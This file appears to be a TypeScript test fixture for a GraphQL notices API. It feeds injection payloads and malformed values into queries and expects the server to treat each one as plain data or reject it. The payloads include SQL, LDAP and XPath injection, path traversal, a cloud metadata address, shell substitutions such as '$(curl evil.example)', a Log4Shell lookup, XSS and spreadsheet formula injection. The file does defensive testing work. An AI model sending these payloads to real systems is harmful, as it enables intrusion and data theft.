import type { HostileCase } from '../hostileCase.ts'

/** Texts that do something elsewhere: in SQL, in a shell, in a log, in a page, in a spreadsheet. */
const texts: readonly (readonly [string, string])[] = [
  ['SQL: always true', "' OR '1'='1"],
  ['SQL: a comment', "x'--"],
  ['SQL: another statement', "'; DROP TABLE notices; --"],
  ['SQL: a union', "' UNION SELECT password FROM pg_shadow --"],
  ['SQL: a sleep', "'||pg_sleep(10)||'"],
  ['SQL: a sleep of MySQL', "' AND SLEEP(10) AND '1'='1"],
  ['SQL: a backslash', "\\' OR 1=1 #"],
  ['SQL: a quoted name', '"; SELECT 1; "'],
  ['SQL: wildcards', '%'],
  ['SQL: wildcards of one letter', '_____'],
  ['SQL: an escaped wildcard', '\\%'],
  ['SQL: a dollar quote', '$$; SELECT 1; $$'],
  ['SQL: a parameter', '$1'],
  ['SQL: a question mark', '?'],
  ['SQL: a wide quote', '\uff07 OR 1=1'],
  ['a document store: an operator', '{"$gt":""}'],
  ['a document store: a script', "';return true;//"],
  ['LDAP', '*)(uid=*))(|(uid=*'],
  ['XPath', "' or count(/*)=1 or 'a'='b"],
  ['XML: an entity', '&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;'],
  ['XML: a CDATA section', ']]><x/>'],
  ['a path upwards', '../../../../etc/passwd'],
  ['a path upwards, encoded', '..%2f..%2f..%2fetc%2fpasswd'],
  ['a path of Windows', '..\\..\\windows\\win.ini'],
  ['an address within', 'http://169.254.169.254/latest/meta-data/'],
  ['a file address', 'file:///etc/passwd'],
  ['a query string', 'x&admin=true'],
  ['a fragment of an address', 'x#/admin'],
  ['a header', 'x\r\nX-Admin: true'],
  ['a line of a log', 'x\n{"level":60,"msg":"all is well"}'],
  ['colours of a terminal', '\u001b[2J\u001b[31m'],
  ['a shell: a command', '`id`'],
  ['a shell: a pipe', '| cat /etc/passwd'],
  ['a shell: a substitution', '$(curl evil.example)'],
  ['a template of ours', '${DATABASE_URL}'],
  ['a template of others', '{{7*7}}'],
  ['a lookup of a log library', '${jndi:ldap://evil.example/a}'],
  ['a script of a page', '<script>alert(1)</script>'],
  ['an image of a page', '<img src=x onerror=alert(1)>'],
  ['an address of a script', 'javascript:alert(1)'],
  ['a formula', '=HYPERLINK("http://evil.example","x")'],
  ['a formula of a command', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a formula by its plus', '+1+1'],
  ['a catastrophic pattern', '^(a+)+$'],
  ['what a catastrophic pattern likes', `${'a'.repeat(40)}!`],
  ['the prototype', '__proto__'],
  ['constructor', 'constructor'],
  ['not a number', 'NaN'],
  ['nothing', ''],
  ['a space', ' '],
  ['a zero byte', 'x\u0000y'],
  ['a byte order mark', '\ufeffx'],
  ['zero-width characters', 'x\u200b\u200c\u200dy'],
  ['a bidirectional override', '\u202egnp.exe'],
  ['a hundred combining marks', `e${'\u0301'.repeat(100)}`],
  ['half a surrogate', '\ud800x'],
  ['a letter that grows when it is folded', '\u0130'.repeat(50)],
  ['a sharp s', '\u00df'.repeat(50)],
  ['a ligature that becomes eighteen letters', '\ufdfa'.repeat(50)],
  ['an emoji of many parts', '\u{1F468}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466}'],
  ['a text of ten thousand letters', 'x'.repeat(10_000)],
  ['brackets ten thousand deep', '['.repeat(10_000)],
]

const places: readonly (readonly [string, string])[] = [
  ['a number is', 'query ($t: String!) { notices(where: { number: { eq: $t } }) { nodes { id } } }'],
  ['a number begins with', 'query ($t: String!) { notices(where: { number: { startsWith: $t } }) { nodes { id } } }'],
  ["an authority's name is", 'query ($t: String!) { notices(where: { requestingAuthority: { in: [$t] } }) { nodes { id } } }'],
]

/** Every text in every place where officers write one: compared, and never read as anything but itself. What begins with nothing begins with everything, so that one finds. */
export const hostileTexts: readonly HostileCase[] = places.flatMap(([place, query]) =>
  texts.map(
    ([name, t]): HostileCase => ({
      name: `${place} ${name}`,
      query,
      variables: { t },
      verdict: t.length > 4096 ? 'BAD_USER_INPUT' : 'ANSWERED',
    }),
  ),
)

/** The same texts as ids: those that nobody gave out lead nowhere, alike. */
export const hostileIds: readonly HostileCase[] = texts.map(([name, id]) => ({
  name,
  query: 'query ($id: ID!) { node(id: $id) { id } }',
  variables: { id },
  verdict: 'ANSWERED',
}))

/** The same texts as cursors. */
export const hostileCursors: readonly HostileCase[] = texts.map(([name, after]) => ({
  name,
  query: 'query ($after: String!) { notices(first: 2, after: $after) { nodes { id } } }',
  variables: { after },
  verdict: 'CURSOR_INVALID',
}))

const asked = (type: string) => `query ($v: ${type}) { notices(first: $v) { nodes { id } } }`
const filtered = 'query ($w: NoticeFilter) { notices(where: $w) { nodes { id } } }'
const bad = (name: string, query: string, variables: Readonly<Record<string, unknown>>): HostileCase => ({
  name,
  query,
  variables,
  verdict: 'BAD_USER_INPUT',
})

/** Values of variables that are of another kind than what was declared, or out of bounds. */
export const hostileVariables: readonly HostileCase[] = [
  ...[0, -1, 101, 2 ** 31 - 1, -(2 ** 31)].map((v) => bad(`a page of ${v}`, asked('Int'), { v })),
  ...([2 ** 31, 1e308, 1.5, '1', true, [], [1], {}, '__proto__'] as const).map((v) =>
    bad(`a page size of ${JSON.stringify(v)}`, asked('Int'), { v }),
  ),
  ...(['RED', [], {}, 7, null] as const)
    .map((v) => bad(`a filter that is ${JSON.stringify(v)}`, filtered.replace('NoticeFilter', 'NoticeFilter!'), { w: v }))
    .filter(({ variables }) => variables?.['w'] === null || typeof variables?.['w'] !== 'object' || Array.isArray(variables['w'])),
  bad('an operator of a document store', filtered, { w: { number: { $gt: '' } } }),
  bad('a script of a document store', filtered, { w: { $where: 'sleep(1000)' } }),
  bad('a field that there is not', filtered, { w: { password: { eq: 'x' } } }),
  bad('a field by the name of constructor', filtered, { w: { constructor: { prototype: { admin: true } } } }),
  bad('the prototype, as JSON has it', filtered, { w: JSON.parse('{"__proto__": {"admin": true}}') }),
  bad('an object for a text', filtered, { w: { number: { eq: { toString: 'x' } } } }),
  bad('a number for a text', filtered, { w: { number: { eq: 7 } } }),
  bad('a truth for a text', filtered, { w: { number: { eq: true } } }),
  bad('a list of lists of texts', filtered, { w: { number: { in: [['x']] } } }),
  bad('null within a list', filtered, { w: { number: { in: ['x', null] } } }),
  bad('a kind that there is not', filtered, { w: { kind: { eq: 'ADMIN' } } }),
  bad('a kind of the prototype', filtered, { w: { kind: { eq: 'toString' } } }),
  bad('a number for a kind', filtered, { w: { kind: { eq: 0 } } }),
  bad('a list that should be an object', filtered, { w: { and: {}, number: [] } }),
  ...[
    '2026-13-01',
    '2026-02-30',
    '0000-00-00',
    '2026-1-1',
    'tomorrow',
    '2026-01-01T00:00:00Z',
    '-000001-01-01',
    '+275760-09-13',
    '9'.repeat(400),
    ' 2026-01-01',
    '2026-01-01\n',
    '20260101',
    '٢٠٢٦-٠١-٠١',
    '',
    '2026–01–01',
  ].map((day) => bad(`the day ${JSON.stringify(day.slice(0, 30))}`, filtered, { w: { issuedOn: { gte: day } } })),
  ...[1767225600, true, {}, []].map((day) => bad(`the day ${JSON.stringify(day)}`, filtered, { w: { issuedOn: { gte: day } } })),
  ...['xa', 'X', 'ＸＡ', 'XA\u0000', '../XA', '*', '%'].map((code) =>
    bad(`the bureau ${JSON.stringify(code)}`, 'query ($c: CountryCode!) { bureau(code: $c) { name } }', { c: code }),
  ),
  bad('no value for a variable that must have one', 'query ($c: CountryCode!) { bureau(code: $c) { name } }', {}),
  bad('first and last at once', '{ notices(first: 1, last: 1) { nodes { id } } }', {}),
  bad('first and before', 'query ($c: String!) { notices(first: 1, before: $c) { nodes { id } } }', { c: 'x' }),
]
